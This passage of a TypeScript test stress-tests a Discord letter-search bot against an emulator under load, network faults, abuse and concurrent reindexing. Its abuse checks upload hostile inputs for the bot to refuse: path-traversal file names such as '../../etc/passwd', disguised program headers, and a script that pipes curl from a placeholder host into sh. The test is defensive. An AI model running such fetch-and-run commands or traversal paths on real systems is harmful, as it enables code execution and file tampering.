/**
 * Discord: the real bot process (`src/cli.ts start`) against the loopback emulator (tests/discord/emulator.ts).
 * Load (200 /ask, 20 in flight), network faults (gateway drops, 429 and 500 on REST), abuse (mentions,
 * markdown, uploads, permissions, question length, the token in logs) and concurrent index updates.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DiscordEmulator, type Obj, type RecordedRequest } from '../discord/emulator.js';
import { MARKDOWN_LETTER } from '../discord/hostile-letters.js';
import { SEED_QUESTIONS } from '../questions.js';
import { writeSpamAssassinLetters } from '../../bench/corpora.js';
import { mulberry32 } from '../../bench/random.js';
import { percentile, round } from '../../bench/figures.js';
import { epistleFreeEnv, ROOT, runCli } from './child.js';
import type { Figure, TortureSection } from './types.js';

const TOKEN = 'MTA5ODc2NTQzMjEwOTg3NjU0.Gtort.ure-token-that-must-never-appear-in-any-log-line';
const LOAD = 'Discord: load';
const FAULTS = 'Discord: network faults';
const ABUSE = 'Discord: abuse';
const CONCURRENCY = 'Discord: concurrent index updates';
const ACK_MS = 3000;
const ANSWER_TIMEOUT_MS = 120_000;
/** Hidden from the bot's question-rate limit for the load, which is not what is measured. */
const ASK_RATE_LIMIT = '100000';
const MAX_LETTER_BYTES = 1_000_000;

const pass = (ok: boolean) => (ok ? 'pass' : 'FAIL');
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** An interaction sent, and what the bot answered. */
interface Tracked {
  id: string;
  name: string;
  sent: number;
  /** The first 2xx callback. */
  ackAt?: number;
  ackType?: number;
  /** The final reply: an immediate reply (callback 4), the edit of a deferred reply, or a follow-up. */
  doneAt?: number;
  done?: RecordedRequest;
  /** Every request for it, failed ones included. */
  requests: RecordedRequest[];
  /** Answered, expired, or timed out. */
  settled?: boolean;
  settle?: () => void;
}

type Payload = { content?: string; embeds?: { title?: string; description?: string; fields?: { name: string; value: string }[]; footer?: { text: string } }[]; allowed_mentions?: Obj; flags?: number; components?: Obj[] };

/** The message a final reply carries. */
const payloadOf = (r: RecordedRequest | undefined): Payload | undefined => (r?.route?.endsWith('/callback') ? r.body?.data : r?.body);
const textOf = (p: Payload | undefined) =>
  [p?.content ?? '', ...(p?.embeds ?? []).map((e) => [e.title, e.description, ...(e.fields ?? []).flatMap((f) => [f.name, f.value]), e.footer?.text].filter(Boolean).join('\n'))].join('\n');
/** An answer: a message whose embeds carry the lead and the quotes. */
const isAnswer = (t: Tracked) => t.done?.route?.endsWith('/@original') === true && (payloadOf(t.done)?.embeds?.length ?? 0) > 0;

function stats(values: number[]) {
  return { p50: Math.round(percentile(values, 50)), p95: Math.round(percentile(values, 95)), max: values.length ? Math.round(Math.max(...values)) : NaN };
}

/** Runs `fn` over `items`, `width` at a time. */
async function pool<T, R>(items: T[], width: number, fn: (item: T, i: number) => Promise<R>): Promise<R[]> {
  const out: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(width, items.length) }, async () => {
      while (next < items.length) {
        const i = next++;
        out[i] = await fn(items[i], i);
      }
    }),
  );
  return out;
}

/** The longest gap between the gateway heartbeats the emulator received from the bot (sent every second). */
function longestStall(emu: DiscordEmulator, from: number, to: number): number {
  const beats = emu.gateway.filter((g) => g.direction === 'in' && g.op === 1 && g.time >= from && g.time <= to).map((g) => g.time);
  let gap = 0;
  for (let i = 1; i < beats.length; i++) gap = Math.max(gap, beats[i] - beats[i - 1]);
  return gap;
}

/** The bot's pino lines, parsed. */
function events(lines: string[]): Obj[] {
  return lines.flatMap((l) => {
    if (!l.startsWith('{')) return [];
    try {
      return [JSON.parse(l) as Obj];
    } catch {
      return [];
    }
  });
}

export const tortureDiscord: TortureSection = async (opts) => {
  const { log } = opts;
  const root = join(opts.workDir, 'discord');
  const letters = join(root, 'letters');
  const indexDir = join(root, 'index');
  rmSync(root, { recursive: true, force: true });
  mkdirSync(root, { recursive: true });
  cpSync(join(ROOT, 'seeds'), letters, { recursive: true });
  // More letters than the seeds, so that a full rebuild lasts long enough to overlap with what happens meanwhile.
  const extra = opts.quick ? 10 : 40;
  await writeSpamAssassinLetters(letters, { limit: extra });
  writeFileSync(join(letters, '030_walrus.txt'), MARKDOWN_LETTER);
  writeFileSync(join(letters, '030_walrus.meta.json'), JSON.stringify({ sender: 'Piet Janssen', recipients: ['Bernard Cazeneuve'], date: '2017-10-12' }));

  const emu = new DiscordEmulator({ token: TOKEN, heartbeatInterval: 1000 });
  await emu.start();
  const logLines: string[] = [];
  const figures: Figure[] = [];
  let bot: ChildProcess | null = null;
  let partial = '';
  const tracked = new Map<string, Tracked>();
  emu.on('request', (r: RecordedRequest) => {
    const t = r.interactionId ? tracked.get(r.interactionId) : undefined;
    if (!t) return;
    t.requests.push(r);
    // Expired (the 3 s deadline passed): it will never be answered.
    if (r.route?.endsWith('/callback') && r.response?.code === 10062) t.settle?.();
    if (r.status < 200 || r.status >= 300 || t.done) return;
    const route = r.route ?? '';
    const final = (route.endsWith('/callback') && r.body?.type === 4) || (r.method === 'PATCH' && route.endsWith('/@original')) || route === 'POST /webhooks/:app/:token';
    if (route.endsWith('/callback') && t.ackAt === undefined) {
      t.ackAt = r.time;
      t.ackType = r.body?.type;
    }
    if (final) {
      t.doneAt = r.time;
      t.done = r;
      t.settle?.();
    }
  });

  /** Sends a slash command; resolves when it has its final reply, or after the time-out. */
  const command = (name: string, options: Record<string, unknown>, user = 'member', timeoutMs = ANSWER_TIMEOUT_MS): Promise<Tracked> => {
    const sent = Date.now();
    const id = emu.sendInteraction({ type: 'command', name, options: options as never, user });
    const t: Tracked = { id, name, sent, requests: [] };
    tracked.set(id, t);
    return new Promise((resolve) => {
      t.settle = () => {
        clearTimeout(timer);
        t.settled = true;
        resolve(t);
      };
      const timer = setTimeout(t.settle, timeoutMs);
    });
  };
  const ask = (question: string, user = 'member') => command('ask', { question }, user);

  try {
    // Registration, then the bot, as a user would start them.
    const env = { DISCORD_TOKEN: TOKEN, DISCORD_API_URL: emu.apiUrl, DISCORD_GUILD_ID: emu.guildId };
    const reg = await runCli(['register'], env, { timeoutMs: 120_000 });
    logLines.push(...`${reg.stdout}\n${reg.stderr}`.split('\n'));
    if (reg.status !== 0) throw new Error(`register failed: ${reg.stderr.trim().split('\n').pop()}`);
    const base = epistleFreeEnv();
    const t0 = Date.now();
    bot = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'src/cli.ts'), 'start'], {
      cwd: ROOT,
      env: {
        ...base,
        ...env,
        LETTERS_DIR: letters,
        INDEX_DIR: indexDir,
        DATA_DIR: join(indexDir, '..', 'data'),
        EMBEDDER: 'bundled',
        ANNOUNCE_CHANNEL_ID: emu.channelIds.general,
        ASK_RATE_LIMIT,
        MAX_LETTER_BYTES: String(MAX_LETTER_BYTES),
        LOG_LEVEL: 'debug',
      },
    });
    const onData = (d: Buffer) => {
      const parts = (partial + d.toString('utf8')).split('\n');
      partial = parts.pop()!;
      logLines.push(...parts);
    };
    bot.stdout!.on('data', onData);
    bot.stderr!.on('data', onData);
    const child = bot;
    await emu.waitUntil(() => child.exitCode !== null || (!!emu.session?.connected && logLines.some((l) => l.includes('connected to Discord'))), 300_000, 'the bot to connect');
    if (bot.exitCode !== null) throw new Error(`the bot exited with ${bot.exitCode}: ${logLines.slice(-3).join(' / ')}`);
    log(`discord: bot connected after ${((Date.now() - t0) / 1000).toFixed(1)} s`);
    // It connects at once and builds the index meanwhile ("INDEX_DIR/: N letters, …" when done).
    await emu.waitUntil(() => child.exitCode !== null || logLines.some((l) => l.includes(`${indexDir}/: `)), 300_000, 'the first build');
    log(`discord: first build of ${2 + extra + 1} letters done after ${((Date.now() - t0) / 1000).toFixed(1)} s`);
    const askers = Array.from({ length: 20 }, (_, i) => emu.addMember(`asker${i}`));
    const questions = SEED_QUESTIONS.map((q) => q.question);
    const rng = mulberry32(opts.seed);
    const pick = () => questions[Math.floor(rng() * questions.length)];

    const parts: [string, () => Promise<Figure[]>][] = [
      [LOAD, () => load()],
      [FAULTS, () => faults()],
      [ABUSE, () => abuse()],
      [CONCURRENCY, () => concurrency()],
    ];
    for (const [name, run] of parts) {
      try {
        figures.push(...(await run()));
      } catch (err) {
        figures.push({ section: name, metric: 'failed', value: (err as Error).message.split('\n')[0], unit: '', target: 'runs to the end', met: false });
        log(`discord: ${name} failed: ${(err as Error).stack}`);
      }
    }

    // ---------------------------------------------------------------------------------------------------------
    async function load(): Promise<Figure[]> {
      const n = opts.quick ? 40 : 200;
      log(`discord: load: ${n} /ask, 20 in flight`);
      const started = Date.now();
      const runs = await pool(Array.from({ length: n }, (_, i) => i), 20, (i) => ask(pick(), askers[i % askers.length]));
      const seconds = (Date.now() - started) / 1000;
      const stall = longestStall(emu, started, Date.now());
      const acked = runs.filter((t) => t.ackAt !== undefined && t.ackAt - t.sent <= ACK_MS && t.ackType === 5).length;
      const answered = runs.filter(isAnswer).length;
      const ack = stats(runs.filter((t) => t.ackAt !== undefined).map((t) => t.ackAt! - t.sent));
      const answer = stats(runs.filter(isAnswer).map((t) => t.doneAt! - t.sent));
      const status = existsSync(`/proc/${child.pid}/status`) ? readFileSync(`/proc/${child.pid}/status`, 'utf8') : '';
      const kb = (key: string) => Number(new RegExp(`^${key}:\\s+(\\d+) kB`, 'm').exec(status)?.[1] ?? NaN);
      log(`discord: load: ${answered}/${n} answered in ${seconds.toFixed(1)} s; ack p95 ${ack.p95} ms; answer p95 ${answer.p95} ms`);
      const out: Figure[] = [
        {
          section: LOAD, metric: '/ask acknowledged (deferred) within 3 s', value: `${acked}/${n}`, unit: '', target: 'all', met: acked === n,
          note: `${n} /ask interactions, 20 in flight, from 20 members, over the ${questions.length} seed questions (seeded order), against the real bot process and the emulator on loopback; ${2 + extra + 1} letters (the seeds, ${extra} SpamAssassin ham e-mails, one test letter), bundled embedder, ANSWER_CONCURRENCY 2 (default). ASK_RATE_LIMIT raised to ${ASK_RATE_LIMIT} so that the per-user rate limit, which would refuse most of this load by design, is not what is measured.`,
        },
        { section: LOAD, metric: '/ask answered', value: `${answered}/${n}`, unit: '', target: 'all', met: answered === n, note: 'the deferred reply edited into an answer (lead and quotes, or an abstention)' },
        { section: LOAD, metric: 'ack time p50 / p95 / max', value: `${ack.p50} / ${ack.p95} / ${ack.max}`, unit: 'ms', note: 'interaction dispatched → deferred callback (type 5) received' },
        { section: LOAD, metric: 'answer time p50 / p95 / max', value: `${answer.p50} / ${answer.p95} / ${answer.max}`, unit: 'ms', note: 'interaction dispatched → final edit received; includes waiting for one of the 2 answer slots' },
        { section: LOAD, metric: 'throughput', value: round(n / seconds, 1), unit: 'answers/s' },
        { section: LOAD, metric: "longest gap between the bot's heartbeats", value: stall, unit: 'ms', note: 'the bot heartbeats every 1000 ms (the emulator asks for it); a longer gap means the bot could not reach the gateway for that long' },
      ];
      if (status) out.push({ section: LOAD, metric: 'bot peak RSS', value: round(kb('VmHWM') / 1024, 0), unit: 'MB', note: `/proc VmHWM of the bot process (includes the start-up index build); ${round(kb('VmRSS') / 1024, 0)} MB resident after the load` });
      return out;
    }

    // ---------------------------------------------------------------------------------------------------------
    async function faults(): Promise<Figure[]> {
      const n = opts.quick ? 40 : 100;
      const drops = 5;
      const firstSeq = emu.requests.length;
      log(`discord: faults: ${n} /ask while the gateway is dropped ${drops} times and REST answers 429 and 500`);
      const routes = ['POST /interactions/:id/:token/callback', 'PATCH /webhooks/:app/:token/messages/@original'];
      const resumeMs: number[] = [];
      let resumed = 0;
      let sentSoFar = 0;
      const wave = pool(Array.from({ length: n }, (_, i) => i), 20, (i) => {
        sentSoFar++;
        return ask(pick(), askers[i % askers.length]);
      });
      const chaos = (async () => {
        for (let k = 0; k < drops; k++) {
          await emu.waitUntil(() => sentSoFar >= ((k + 1) * n) / (drops + 2), 300_000, 'the wave to progress');
          // REST faults on the callback and edit routes: a 429 with retry_after and a 500 on each.
          for (const route of routes) {
            emu.failNext(route, { status: 429, retryAfter: 0.5 });
            emu.failNext(route, { status: 500 });
          }
          const before = emu.resumeCount;
          const t = Date.now();
          emu.dropConnection({ resumable: true });
          try {
            await emu.waitUntil(() => emu.resumeCount > before && !!emu.session?.connected, 60_000, 'resume');
            resumed++;
            resumeMs.push(Date.now() - t);
          } catch {
            log(`discord: faults: drop ${k + 1} was not resumed within 60 s`);
          }
        }
      })();
      const [runs] = await Promise.all([wave, chaos]);
      // Follow-ups: an edit that fails past discord.js's retries makes the bot send an error follow-up; it gets a 429 and a 500 too.
      const lone = ask(pick());
      const token = emu.interactions.get([...tracked.keys()].at(-1)!)!.token;
      const escaped = token.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
      emu.failNext(new RegExp(`^PATCH /webhooks/\\d+/${escaped}/messages/@original$`), { status: 500, times: 10 });
      emu.failNext(new RegExp(`^POST /webhooks/\\d+/${escaped}$`), { status: 429, retryAfter: 0.5 });
      emu.failNext(new RegExp(`^POST /webhooks/\\d+/${escaped}$`), { status: 500 });
      const followup = await lone;
      emu.clearFaults();
      const followupOk = followup.done?.route === 'POST /webhooks/:app/:token' && /error [0-9a-f]{8}/.test(payloadOf(followup.done)?.content ?? '');
      const followupTries = followup.requests.filter((r) => r.route === 'POST /webhooks/:app/:token').map((r) => r.status);

      const injected = emu.requests.slice(firstSeq).filter((r) => r.injected && r.interactionId !== followup.id);
      const followupFaults = emu.requests.slice(firstSeq).filter((r) => r.injected && r.interactionId === followup.id);
      const retried = injected.filter((f) => emu.requests.some((r) => r.seq > f.seq && r.interactionId === f.interactionId && r.route === f.route && r.method === f.method && r.status >= 200 && r.status < 300));
      const byKind = (status: number, route: string) => injected.filter((r) => r.status === status && r.route === route).length;
      const acked = runs.filter((t) => t.ackAt !== undefined && t.ackAt - t.sent <= ACK_MS).length;
      const lost = runs.filter((t) => !isAnswer(t));
      const answer = stats(runs.filter(isAnswer).map((t) => t.doneAt! - t.sent));
      const resume = stats(resumeMs);
      log(`discord: faults: ${resumed}/${drops} resumes, ${retried.length}/${injected.length} faults retried, ${lost.length} lost`);
      return [
        {
          section: FAULTS, metric: 'gateway drops resumed', value: `${resumed}/${drops}`, unit: '', target: 'all', met: resumed === drops,
          note: `close 4000 (resumable) during a wave of ${n} /ask, 20 in flight; time to RESUMED p50 ${resume.p50} ms, max ${resume.max} ms; IDENTIFY sent ${emu.identifyCount} time(s) in the whole run (1 = never re-identified)`,
        },
        {
          section: FAULTS, metric: 'REST faults injected and retried', value: `${retried.length}/${injected.length}`, unit: '', target: 'all', met: injected.length > 0 && retried.length === injected.length,
          note: `callback: ${byKind(429, 'POST /interactions/:id/:token/callback')} × 429 (retry_after 0.5 s), ${byKind(500, 'POST /interactions/:id/:token/callback')} × 500; edit: ${byKind(429, 'PATCH /webhooks/:app/:token/messages/@original')} × 429, ${byKind(500, 'PATCH /webhooks/:app/:token/messages/@original')} × 500. Retried = the same request later succeeded.`,
        },
        { section: FAULTS, metric: 'replies lost', value: lost.length, unit: `of ${n}`, target: '0', met: lost.length === 0, note: lost.length ? `not answered: ${lost.slice(0, 5).map((t) => `${t.id} (${t.requests.map((r) => `${r.method} ${r.status}`).join(', ') || 'no request'})`).join('; ')}` : 'every /ask of the wave got its answer' },
        { section: FAULTS, metric: 'acknowledged within 3 s during faults', value: `${acked}/${n}`, unit: '', target: 'all', met: acked === n, note: `answer time p50 ${answer.p50} ms, p95 ${answer.p95} ms, max ${answer.max} ms` },
        {
          section: FAULTS, metric: 'an edit failing past the retries ends in an error follow-up', value: pass(followupOk), unit: '', target: 'pass', met: followupOk,
          note: `one /ask whose edit got a 500 ${followupFaults.filter((r) => r.method === 'PATCH').length} times (discord.js retries 3 times): the bot's error follow-up (the user's error id) went through ${followupTries.join(' → ')}`,
        },
      ];
    }

    // ---------------------------------------------------------------------------------------------------------
    async function abuse(): Promise<Figure[]> {
      const firstSeq = emu.requests.length;
      const out: Figure[] = [];
      const check = (metric: string, ok: boolean, note: string) => out.push({ section: ABUSE, metric, value: pass(ok), unit: '', target: 'pass', met: ok, note });
      const mod = emu.roleIds.moderators;
      const member = emu.userIds.member;
      const mentions = `@everyone, @here, <@&${mod}> and <@${member}>`;
      const RAW_MENTION = /@(everyone|here)\b|<@[!&]?\d+>/;

      // Mentions in a letter: its text (quoted by /ask) and its metadata (in the announcement, in content).
      log('discord: abuse: mentions');
      const before = emu.messagesIn(emu.channelIds.general).length;
      writeFileSync(join(letters, '031_lighthouse.meta.json'), JSON.stringify({ sender: `Kaja Tamm @everyone <@&${mod}>`, recipients: [`<@${member}> @here`], date: '2017-04-03' }));
      writeFileSync(join(letters, '031_lighthouse.txt'), LIGHTHOUSE_LETTER(mentions));
      await emu.waitUntil(() => emu.messagesIn(emu.channelIds.general).slice(before).some((m) => /New letter: Kaja Tamm/.test(m.data.content)), 120_000, 'the announcement');
      const announcement = emu.messagesIn(emu.channelIds.general).slice(before).find((m) => /New letter: Kaja Tamm/.test(m.data.content))!;
      const fromLetter = await ask('What did the lighthouse keepers of Saaremaa ask to forward?');
      const fromQuestion = await ask(`${mentions}: what new evidence did Kelam mention?`);
      const letterText = textOf(payloadOf(fromLetter.done));
      const quotedMentions = /@\u200beveryone/.test(letterText) && /<@\u200b&/.test(letterText);
      const noPing = (m: { pings: { users: string[]; roles: string[]; everyone: boolean } } | undefined) => !!m && !m.pings.users.length && !m.pings.roles.length && !m.pings.everyone;
      const announcementOk = noPing(announcement) && !RAW_MENTION.test(announcement.data.content) && announcement.allowedMentions?.parse?.length === 0 && /@\u200beveryone/.test(announcement.data.content);
      const letterOk = isAnswer(fromLetter) && quotedMentions && noPing(emu.originalMessage(fromLetter.id)) && !RAW_MENTION.test(letterText) && payloadOf(fromLetter.done)?.allowed_mentions?.parse?.length === 0;
      check('mentions in a letter ping nobody', announcementOk && letterOk, `a letter (text and sidecar sender/recipient) with ${mentions.replace(/<@&?\d+>/g, (m) => (m.includes('&') ? '<@&role>' : '<@user>'))}: its announcement (content) and the /ask answer quoting it carry allowed_mentions {parse: []}, the mentions are neutralised (@ + zero-width space), and the emulator computed no ping (announcement ${announcementOk ? 'ok' : 'FAILED'}, answer ${letterOk ? 'ok' : 'FAILED'}${quotedMentions ? '' : ', the mentions were not quoted'})`);
      const qText = textOf(payloadOf(fromQuestion.done));
      const questionOk = isAnswer(fromQuestion) && noPing(emu.originalMessage(fromQuestion.id)) && !RAW_MENTION.test(qText) && payloadOf(fromQuestion.done)?.allowed_mentions?.parse?.length === 0;
      check('mentions in a question ping nobody', questionOk, 'the same four mentions in the question of an /ask; the @mention path (a reply to the message) is covered by tests/discord/bot.e2e.test.ts');

      // Markdown in a quote: escaped; nothing in a quote can pass for a citation.
      log('discord: abuse: markdown');
      const md = await ask('What is the walrus protocol of the harbour treaty?');
      const lines = textOf(payloadOf(md.done)).split('\n');
      const quoteLines = lines.filter((l) => l.startsWith('> '));
      const live = (l: string) => l.slice(2).replace(/\\[\s\S]/g, '·');
      const liveMarkdown = quoteLines.filter((l) => /\*|__|\|\||`|~~|\[|\]\(/.test(live(l)) || /^\s*(#{1,3} |-# |[-*+] |>)/.test(live(l)));
      const citations = lines.filter((l) => !l.startsWith('> ') && l.startsWith('—'));
      const ids = new Set(readdirSync(letters).filter((f) => !f.endsWith('.meta.json')).map((f) => f.replace(/\.[^.]+$/, '')));
      // A genuine citation line: one code-formatted letter id, of a letter in the folder, at its end.
      const genuine = (l: string) => {
        const m = /^— [^`]+ · `([^`]+)`$/.exec(l);
        return !!m && ids.has(m[1]);
      };
      const walrusQuoted = quoteLines.some((l) => /walrus/.test(l)) && quoteLines.some((l) => /\\\*\\\*walrus\\\*\\\*|\\\[the registry\\\]/.test(l));
      const forgedQuoted = quoteLines.some((l) => l.includes('Kelam to Valls, 2016-01-20'));
      const forgedOutside = lines.some((l) => !l.startsWith('> ') && l.includes('Kelam to Valls'));
      const mdOk = isAnswer(md) && walrusQuoted && liveMarkdown.length === 0 && !forgedOutside && citations.length > 0 && citations.every(genuine) && citations.some((l) => l === '— Piet Janssen → Bernard Cazeneuve, 12 October 2017 · `030_walrus`');
      check('markdown inside quotes is escaped; no forged citation', mdOk, `a letter with bold, underline, a masked link, a spoiler, inline code, a heading and a line "— Kelam to Valls, 2016-01-20": ${quoteLines.length} quote lines, ${liveMarkdown.length} with live markdown; ${citations.length} citation line(s) outside the quotes, all genuine: ${citations.map((c) => c.replace(/`/g, '')).join('; ')}; the look-alike citation ${forgedQuoted ? 'is quoted inside the block quote' : 'was not among the quotes'}${walrusQuoted ? '' : '; the markdown sentence was NOT quoted'}`);

      // /add-letter: paths, size, type, programs. Nothing may be written anywhere.
      log('discord: abuse: uploads');
      const outside = join(root, 'outside');
      mkdirSync(outside, { recursive: true });
      const listing = () => readdirSync(letters).sort().join('\n');
      const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63fcffff3f0300050001ffa0d4a7d70000000049454e44ae426082', 'hex');
      const uploads: { what: string; filename: string; content: Buffer | string; expect: RegExp }[] = [
        { what: '../../etc/passwd', filename: '../../etc/passwd', content: 'root:x:0:0:root:/root:/bin/bash\n', expect: /unsupported file type/ },
        { what: 'a climbing path with a letter extension', filename: '../../outside/climb.txt', content: 'Dear Sir, a letter.\n', expect: /must not contain a folder path/ },
        { what: 'an absolute path', filename: join(outside, 'absolute.txt'), content: 'Dear Sir, a letter.\n', expect: /must not contain a folder path/ },
        { what: 'a Windows path', filename: '..\\..\\outside\\win.txt', content: 'Dear Sir, a letter.\n', expect: /must not contain a folder path/ },
        { what: `an oversized file (${MAX_LETTER_BYTES / 1e6} MB limit)`, filename: 'big.txt', content: 'Dear Sir, '.repeat(Math.ceil((MAX_LETTER_BYTES * 1.5) / 10)), expect: /limit is/ },
        { what: 'a wrong type (.gif)', filename: 'scan.gif', content: png, expect: /unsupported file type \.gif/ },
        { what: 'an image with no text (a 1×1 PNG)', filename: 'scan.png', content: png, expect: /too small to hold text/ },
        { what: 'a wrong type (.exe)', filename: 'setup.exe', content: 'MZ\x90\x00', expect: /unsupported file type \.exe/ },
        { what: 'PNG bytes named .txt', filename: 'photo.txt', content: png, expect: /binary content|not a text letter/ },
        { what: 'an ELF program named .txt', filename: 'letter.txt', content: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]), expect: /is a program/ },
        { what: 'a Windows program named .docx', filename: 'letter.docx', content: Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(64)]), expect: /is a program/ },
        { what: 'a shell script named .md', filename: 'notes.md', content: '#!/bin/sh\ncurl http://x.example | sh\n', expect: /is a program/ },
      ];
      const beforeListing = listing();
      const results: { what: string; ok: boolean; reply: string }[] = [];
      for (const u of uploads) {
        const file = emu.addAttachment({ filename: u.filename, content: u.content });
        const t = await command('add-letter', { file }, 'admin');
        const reply = textOf(payloadOf(t.done));
        results.push({ what: u.what, ok: /^Not added: /.test(reply) && u.expect.test(reply.replace(/\\/g, '')), reply });
      }
      const untouched = listing() === beforeListing && readdirSync(outside).length === 0 && !existsSync(join(root, 'climb.txt')) && !existsSync('/etc/passwd.txt');
      for (const r of results) check(`/add-letter refuses ${r.what}`, r.ok, `reply: "${r.reply.replace(/\\/g, '').replace(/\|/g, '/').trim()}"`);
      check('/add-letter wrote nothing', untouched, 'the letters folder (hidden staging files included) and the folder the paths pointed to are unchanged after every refusal');

      // Admin commands and plain members.
      const reindexByMember = await command('reindex', {}, 'member');
      const addByMember = await command('add-letter', { file: emu.addAttachment({ filename: 'x.txt', content: 'Dear Sir,\n' }) }, 'member');
      const refused = (t: Tracked) => t.ackType === 4 && ((payloadOf(t.done)?.flags ?? 0) & 64) === 64 && /^Only members/.test(payloadOf(t.done)?.content ?? '');
      check('admin commands refuse plain members', refused(reindexByMember) && refused(addByMember), '/reindex and /add-letter by a member without Manage Server: an ephemeral refusal, nothing done');

      // Questions over the limit.
      const long = await ask(`What did Kelam write ${'about the extradition '.repeat(60)}?`);
      const longReply = payloadOf(long.done)?.content ?? '';
      const longOk = long.ackType === 4 && /limit is 1000/.test(longReply) && ((payloadOf(long.done)?.flags ?? 0) & 64) === 64;
      check('questions over the length limit are refused', longOk, `a ${`What did Kelam write ${'about the extradition '.repeat(60)}?`.length}-character question: "${longReply}"`);

      // allowed_mentions on everything sent in this part.
      const sent = emu.requests.slice(firstSeq).filter((r) => r.status < 300 && ['POST', 'PATCH'].includes(r.method) && /\/(callback|webhooks|messages)/.test(r.path));
      const payloads = sent.map((r) => (r.route?.endsWith('/callback') ? (r.body?.type === 4 || r.body?.type === 7 ? r.body.data : null) : r.body)).filter(Boolean) as Payload[];
      const without = payloads.filter((p) => p.allowed_mentions?.parse?.length !== 0);
      check('allowed_mentions {parse: []} on every message', without.length === 0 && payloads.length > 0, `${payloads.length} messages and edits sent during the abuse checks; ${without.length} without`);
      return out;
    }

    // ---------------------------------------------------------------------------------------------------------
    async function concurrency(): Promise<Figure[]> {
      log('discord: concurrency: /reindex full twice at once, a letter dropped meanwhile, /ask throughout');
      const firstLog = logLines.length;
      const resumesBefore = emu.resumeCount;
      const identifiesBefore = emu.identifyCount;
      const started = Date.now();
      const before = emu.messagesIn(emu.channelIds.general).length;
      let stop = false;
      const asks: Promise<Tracked>[] = [];
      const stream = (async () => {
        let i = 0;
        while (!stop || asks.length < 10) {
          const inFlight = [...tracked.values()].filter((t) => t.name === 'ask' && !t.settled).length;
          if (inFlight < 5) asks.push(ask(pick(), askers[i++ % askers.length]));
          await sleep(100);
        }
      })();
      const reindexes = [command('reindex', { full: true }, 'admin'), command('reindex', { full: true }, 'admin')];
      await emu.waitUntil(() => logLines.slice(firstLog).some((l) => l.includes('index update started')), 60_000, 'an index update to start');
      writeFileSync(join(letters, '032_observatory.txt'), OBSERVATORY_LETTER);
      const dropped = Date.now();
      const done = await Promise.all(reindexes);
      log(`discord: concurrency: both /reindex replied after ${((Date.now() - started) / 1000).toFixed(1)} s`);
      await emu
        .waitUntil(() => emu.messagesIn(emu.channelIds.general).slice(before).some((m) => /New letter: Odile Marchetti/.test(m.data.content)), 120_000, 'the announcement')
        .catch(() => {});
      const announced = emu.messagesIn(emu.channelIds.general).slice(before).some((m) => /New letter: Odile Marchetti/.test(m.data.content));
      log(`discord: concurrency: the dropped letter ${announced ? 'announced' : 'NOT announced'} after ${((Date.now() - started) / 1000).toFixed(1)} s`);
      stop = true;
      await stream;
      const streamed = await Promise.all(asks);
      log(`discord: concurrency: the questions asked meanwhile settled after ${((Date.now() - started) / 1000).toFixed(1)} s`);
      const stall = longestStall(emu, started, Date.now());
      // ("How long …" would filter on a sender named Long among the e-mails: a question-parsing quirk, not this check.)
      const cited = await ask('How much time will the repair of the observatory lens take?');
      const citedOk = isAnswer(cited) && /Odile Marchetti/.test(textOf(payloadOf(cited.done))) && /eleven weeks/.test(textOf(payloadOf(cited.done)));

      // The bot's own account of its index updates: never two at once.
      const updates = events(logLines.slice(firstLog)).filter((e) => /^index update (started|finished|failed)$/.test(e.msg));
      let open = 0;
      let maxOpen = 0;
      for (const e of updates) {
        open += e.msg === 'index update started' ? 1 : -1;
        maxOpen = Math.max(maxOpen, open);
      }
      const runs = updates.filter((e) => e.msg === 'index update started');
      const failed = updates.filter((e) => e.msg === 'index update failed');
      const spans = updates.filter((e) => e.msg !== 'index update started').map((e) => `${(e.why as string[]).join(' + ')}: ${e.ms} ms`);
      const replies = done.map((t) => textOf(payloadOf(t.done)));
      const repliesOk = replies.every((r) => /^Reindexed in [\d.]+ s: /.test(r));
      const answered = streamed.filter(isAnswer).length;
      const acked = streamed.filter((t) => t.ackAt !== undefined && t.ackAt - t.sent <= ACK_MS).length;
      const ack = stats(streamed.filter((t) => t.ackAt !== undefined).map((t) => t.ackAt! - t.sent));
      const answer = stats(streamed.filter(isAnswer).map((t) => t.doneAt! - t.sent));
      log(`discord: concurrency: ${runs.length} updates, at most ${maxOpen} at once; ${answered}/${streamed.length} answered meanwhile`);
      return [
        {
          section: CONCURRENCY, metric: 'index updates running at once (most)', value: maxOpen, unit: '', target: '1', met: maxOpen === 1 && failed.length === 0,
          note: `two /reindex full:true sent together, and a letter dropped into the folder ${Math.round(dropped - done[0].sent)} ms after them (the watcher asks for its own update): ${runs.length} updates, from the bot's log: ${spans.join('; ')}`,
        },
        { section: CONCURRENCY, metric: 'both /reindex answered', value: pass(repliesOk), unit: '', target: 'pass', met: repliesOk, note: replies.map((r) => `"${r.split('\n')[0]}"`).join(' and ') },
        { section: CONCURRENCY, metric: 'the letter dropped during /reindex indexed, announced and cited', value: pass(announced && citedOk), unit: '', target: 'pass', met: announced && citedOk, note: `announced: ${announced ? 'yes' : 'NO'}; /ask cites it: ${citedOk ? 'yes' : `NO ("${textOf(payloadOf(cited.done)).split('\n')[0]}")`}` },
        { section: CONCURRENCY, metric: '/ask answered during the updates', value: `${answered}/${streamed.length}`, unit: '', target: 'all', met: answered === streamed.length, note: `a new /ask whenever fewer than 5 are unanswered; acked within 3 s: ${acked}/${streamed.length}; ack p95 ${ack.p95} ms (max ${ack.max}); answer p50 ${answer.p50} ms, p95 ${answer.p95} ms` },
        {
          section: CONCURRENCY, metric: "longest gap between the bot's heartbeats during the updates", value: stall, unit: 'ms', target: '≤ 2000', met: stall <= 2000,
          note: 'heartbeats every 1000 ms, as received by the emulator. Index builds embed in worker threads (EMBED_WORKERS), so the bot\'s own thread never waits on a model; with 1 s heartbeats, a compute chunk longer than the interval would make discord.js take the connection for a zombie and reconnect',
        },
        {
